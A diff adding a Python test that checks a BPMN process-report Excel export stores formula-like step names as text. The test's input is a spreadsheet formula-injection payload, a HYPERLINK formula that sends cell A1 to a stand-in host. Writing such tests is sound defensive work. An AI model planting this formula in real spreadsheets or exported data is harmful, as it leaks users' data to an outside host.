@@ -158,3 +158,14 @@ def test_excel_export_holds_the_same_rows(client):
     assert len(values) == 2
     r = client.get(f"{API}/reports/processes.xlsx", query_string={"from": "bad"}, headers=login(client, "admin"))
     assert "from" in assert_error(r, 422)["fields"]
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, any_org):
+    """Step and process names come from whoever drew the BPMN; Excel must not run one as a formula."""
+    name = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    with any_org.db.uow(write=True) as s:
+        for act in s.query(NodeActivation):
+            act.node_name = name
+    r = client.get(f"{API}/reports/nodes.xlsx", headers=login(client, "admin"))
+    cell = load_workbook(io.BytesIO(r.data)).active["B2"]
+    assert (cell.value, cell.data_type) == (name, "s")
